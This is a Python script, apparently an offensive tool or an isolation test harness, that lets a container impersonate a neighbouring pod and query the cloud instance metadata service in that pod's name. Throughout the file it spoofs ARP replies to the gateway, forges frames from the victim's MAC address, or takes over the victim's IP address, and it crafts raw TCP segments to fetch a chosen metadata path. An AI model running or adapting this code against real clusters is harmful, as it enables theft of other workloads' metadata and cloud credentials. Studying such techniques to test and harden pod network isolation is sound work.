"""An attacker in a pod: takes a neighbour's address and asks IMDS in its name.

    attacker arp|mac VICTIM PATH   raw frames only; CAP_NET_RAW, which containers have by default
    attacker address VICTIM PATH   a second address on eth0 and an ordinary socket; CAP_NET_ADMIN

The first two hold a whole TCP conversation by frames of their own making. `arp` tells the gateway
that the victim's address is at the attacker's MAC address, `mac` sends from the victim's own, so
that the bridge moves it to the attacker's port. Prints the body of the answer; fails without one.
"""

from __future__ import annotations

import random
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator

IMDS, GATEWAY = "169.254.169.254", "10.244.0.1"
_SECONDS = 15.0
_ETHERTYPE_ARP, _ETHERTYPE_IP = 0x0806, 0x0800
_BROADCAST = b"\xff" * 6
_SYN, _ACK, _PSH, _SYN_ACK = 0x02, 0x10, 0x08, 0x12


def checksum(data: bytes) -> int:
    """Return the internet checksum (RFC 1071)."""
    total: int = sum(
        struct.unpack(f"!{len(data) // 2 + len(data) % 2}H", data + bytes(len(data) % 2))
    )
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    """Frames on eth0, sent from `mac` in the name of `address`."""

    def __init__(self, mac: bytes, address: str) -> None:
        self.mac, self.address = mac, socket.inet_aton(address)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind(("eth0", 0))

    def request_arp(self, target: str) -> None:
        """Ask for `target`, which tells it, by the way, that our address is at our MAC address."""
        head = struct.pack("!HHBBH", 1, _ETHERTYPE_IP, 6, 4, 1)
        body = self.mac + self.address + bytes(6) + socket.inet_aton(target)
        self._send(_BROADCAST, _ETHERTYPE_ARP, head + body)

    def resolve(self, target: str, deadline: float) -> bytes:
        """Return the MAC address of `target`."""
        wanted = socket.inet_aton(target)
        while time.monotonic() < deadline:
            self.request_arp(target)
            for kind, body in self.frames(0.2):
                if kind == _ETHERTYPE_ARP and body[6:8] == b"\0\2" and body[14:18] == wanted:
                    return body[8:14]
        raise TimeoutError("the gateway does not answer ARP")

    def send_tcp(
        self, to: bytes, port: int, numbers: tuple[int, int], flags: int, data: bytes = b""
    ) -> None:
        """Send one segment to IMDS by way of the gateway with MAC address `to`.

        `numbers` are the sequence number and what is acknowledged.
        """
        destination = socket.inet_aton(IMDS)
        tcp = struct.pack("!HHIIBBHHH", port, 80, *numbers, 5 << 4, flags, 64000, 0, 0)
        pseudo = self.address + destination + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp) + len(data), 1, 0, 64, 6, 0)
        ip += self.address + destination
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self._send(to, _ETHERTYPE_IP, ip + tcp + data)

    def segments(self, port: int, seconds: float) -> Iterator[tuple[int, int, int, bytes]]:
        """Yield sequence, acknowledged, flags and data of what IMDS sends to `port`."""
        for kind, body in self.frames(seconds):
            if kind != _ETHERTYPE_IP or body[9] != 6 or body[12:16] != socket.inet_aton(IMDS):
                continue
            tcp = body[(body[0] & 15) * 4 : struct.unpack("!H", body[2:4])[0]]
            to, sequence, acknowledged, offset, flags = struct.unpack("!HIIBB", tcp[2:14])
            if to == port:
                yield sequence, acknowledged, flags, tcp[(offset >> 4) * 4 :]

    def frames(self, seconds: float) -> Iterator[tuple[int, bytes]]:
        """Yield type and content of what arrives in that time."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                frame, origin = self.socket.recvfrom(65535)
            except TimeoutError:
                return
            if origin[2] != socket.PACKET_OUTGOING:
                yield struct.unpack("!H", frame[12:14])[0], frame[14:]

    def _send(self, to: bytes, kind: int, content: bytes) -> None:
        self.socket.send(to + self.mac + struct.pack("!H", kind) + content)


def by_frames(wire: Wire, path: str, port: int) -> bytes:
    """Hold a TCP conversation by raw frames and return what was answered."""
    deadline = time.monotonic() + _SECONDS
    gateway = wire.resolve(GATEWAY, deadline)
    request = f"GET {path} HTTP/1.1\r\n\r\n".encode()
    while time.monotonic() < deadline:
        first = random.randrange(1 << 31)  # noqa: S311 - no secret
        wire.request_arp(GATEWAY)  # again: the victim's own packets undo it
        wire.send_tcp(gateway, port, (first, 0), _SYN)
        for sequence, _, flags, data in wire.segments(port, 0.5):
            if flags & _SYN_ACK == _SYN_ACK:
                numbers = (first + 1, sequence + 1)
                wire.send_tcp(gateway, port, numbers, _ACK)
                wire.send_tcp(gateway, port, numbers, _ACK | _PSH, request)
            elif data:
                return data
    raise TimeoutError("no conversation")


def by_address(victim: str, path: str) -> bytes:
    """Take the address as a second one, announce it, and use an ordinary socket."""
    subprocess.run(["ip", "addr", "add", f"{victim}/32", "dev", "eth0"], check=True)
    wire = Wire(own_mac(), victim)
    deadline = time.monotonic() + _SECONDS
    while time.monotonic() < deadline:
        wire.request_arp(GATEWAY)
        with socket.socket() as client:
            client.settimeout(0.5)
            client.bind((victim, 0))
            try:
                client.connect((IMDS, 80))
                client.sendall(f"GET {path} HTTP/1.1\r\n\r\n".encode())
                return client.recv(65535)
            except OSError:
                continue
    raise TimeoutError("no conversation")


def own_mac() -> bytes:
    """Return the MAC address of eth0 in this network namespace."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as probe:
        probe.bind(("eth0", 0))
        return bytes(probe.getsockname()[4])


def main(way: str, victim: str, path: str, victims_mac: str = "", port: str = "") -> None:
    if way == "address":
        answer = by_address(victim, path)
    else:
        mac = own_mac() if way == "arp" else bytes.fromhex(victims_mac.replace(":", ""))
        source = int(port or random.randrange(20000, 60000))  # noqa: S311 - no secret
        answer = by_frames(Wire(mac, victim), path, source)
    sys.stdout.write(answer.partition(b"\r\n\r\n")[2].decode())


if __name__ == "__main__":
    main(*sys.argv[1:])
